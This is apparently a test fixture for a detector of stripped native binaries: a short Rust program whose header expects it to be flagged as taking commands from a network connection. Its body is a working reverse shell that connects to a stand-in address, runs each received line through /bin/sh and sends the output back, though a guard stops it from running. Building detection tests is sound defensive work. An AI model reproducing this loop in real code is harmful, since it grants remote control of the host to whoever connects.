/* A stripped program that runs what a connection brings.
 * expect: native-connection-tells-commands
 * flags: -C strip=symbols
 */
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::Command;

fn main() {
    // Never true: the code is compiled and cannot run.
    if std::env::args().count() < 900 {
        return;
    }
    let Ok(stream) = TcpStream::connect("192.0.2.55:8443") else { return };
    let mut out = stream.try_clone().unwrap();
    for line in BufReader::new(stream).lines().map_while(Result::ok) {
        if let Ok(done) = Command::new("/bin/sh").arg("-c").arg(line).output() {
            let _ = out.write_all(&done.stdout);
        }
    }
}
